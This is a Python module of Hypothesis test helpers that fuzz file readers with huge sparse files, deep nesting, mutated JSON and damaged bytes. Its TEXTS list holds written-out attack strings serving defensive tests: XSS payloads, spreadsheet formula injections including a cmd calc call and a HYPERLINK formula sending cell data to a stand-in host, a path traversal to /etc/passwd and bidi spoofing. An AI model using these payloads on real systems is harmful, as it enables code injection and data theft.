"""What a file can hold that nobody meant to write: a reader gives a right answer or refuses with
InputError, in one line that names the file. All draws are the same in every run."""

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final, TypeVar

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

T = TypeVar("T")


def examples(count: int) -> settings:
    """The settings of a property that is tried so often."""
    return settings(
        derandomize=True, database=None, max_examples=count, suppress_health_check=[*HealthCheck]
    )


def check_line(line: str, named: Path | str) -> None:
    """Fail unless a refusal is one short line that can be printed and names the file."""
    assert line.isprintable(), line
    assert len(line) < 1200, line
    assert str(named) in line


def answer(read: Callable[[], T], error: type[Exception], named: Path | str) -> T | None:
    """What a reader gives, or None where it refuses as it should."""
    try:
        return read()
    except error as refusal:
        check_line(str(refusal), named)
    return None


def sparse(path: Path, size: int) -> None:
    """Make a file of a size that takes no space: reading it whole would take all memory."""
    with path.open("wb") as file:
        file.truncate(size)


def nested(depth: int) -> str:
    """JSON, and TOML, of so many lists in one another."""
    return "[" * depth + "1" + "]" * depth


NEAR_THE_LIMIT: Final = range(820, 1010)
"""Depths at which Python 3.11's stack ends somewhere: here, or a little further in."""

TEXTS: Final = (
    "<script>window.pwned = 1; alert(1)</script>", "<img src=x onerror='window.pwned=1;alert(1)'>",
    "\"><svg onload='window.pwned=1;alert(1)'>", "' onmouseover='window.pwned=1' x='",
    "](javascript:window.pwned=1) [x](javascript:alert(1))",
    "![x](javascript:alert(1)) <javascript:alert(1)>",
    '=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+cmd|' /C calc'!A0", "@SUM(1)*cmd|'x'!A0",
    "-2+3+cmd|'x'!A0", "a\u202etxt.exe\u2066\u200f b", "\x1b[31mred\x1b[2J\x07\x00\x08",
    "two\r\nlines\u2028and\u2029more", "</td></tr></table></script>]]>-->{{ 7*7 }}{% raw %}",
    "../../../../etc/passwd", "| a | b |\n|---|---|", "x" * 3000, "\ud800 lone",
)  # fmt: skip
"""Texts that mean something to some program that may show them."""

NUMBERS: Final = (
    0, -1, 1, 3, 10**12, 2**31, 2**32 - 1, 2**63, 2**64, -(2**63), 10**400,
    0.0, -0.0, 0.5, 1e-320, 1e308, -1e308, float("inf"), float("-inf"), float("nan"),
)  # fmt: skip

_SCALARS: Final = (
    st.none() | st.booleans() | st.sampled_from(NUMBERS) | st.integers(-100, 100) | st.floats()
    | st.sampled_from(TEXTS) | st.text(max_size=6)
)  # fmt: skip
JSON: Final = st.recursive(
    _SCALARS,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=6,
)


@st.composite
def changed(draw: st.DrawFn, value: Any, with_values: st.SearchStrategy[Any] = JSON) -> Any:
    """A JSON value with up to three things inside it replaced, added or missing."""
    found = copy.deepcopy(value)
    for _ in range(draw(st.integers(1, 3))):
        found = _change(draw, found, with_values)
    return found


def _change(draw: st.DrawFn, value: Any, others: st.SearchStrategy[Any]) -> Any:
    if not isinstance(value, dict | list) or not value or draw(st.integers(0, 30)) == 0:
        return draw(others)
    places = sorted(value) if isinstance(value, dict) else range(len(value))
    place = draw(st.sampled_from(places))
    deed = draw(st.sampled_from(("within", "within", "replace", "drop", "add")))
    if deed == "within":
        value[place] = _change(draw, value[place], others)
    elif deed == "replace":
        value[place] = draw(others)
    elif deed == "drop":
        del value[place]
    elif isinstance(value, dict):
        value[draw(st.text(max_size=6))] = draw(others)
    else:
        value.insert(place, draw(others))
    return value


_PIECES: Final = (
    b"\0", b'"', b"'", b"\xff", b"\n", b"\r\n", b"\r", b"\t", b",", b"\xef\xbb\xbf", b"NaN",
    b"1e999", b"-1", b"9" * 500, b"[" * 200, b"{", b"}", b"]", b"\\", b"\xe2\x80\xae", b"null",
)  # fmt: skip


@st.composite
def damaged(draw: st.DrawFn, whole: bytes) -> bytes:
    """A file's bytes with up to four places cut, overwritten, doubled or filled with others."""
    data = whole
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(data)))
        to = min(len(data), at + draw(st.integers(0, 40)))
        other = draw(st.sampled_from(_PIECES) | st.binary(max_size=12))
        deed = draw(st.sampled_from(("overwrite", "insert", "drop", "double", "end")))
        data = {
            "overwrite": data[:at] + other + data[at + len(other) :],
            "insert": data[:at] + other + data[at:],
            "drop": data[:at] + data[to:],
            "double": data[:to] + data[at:to] + data[to:],
            "end": data[:at],
        }[deed]
    return data
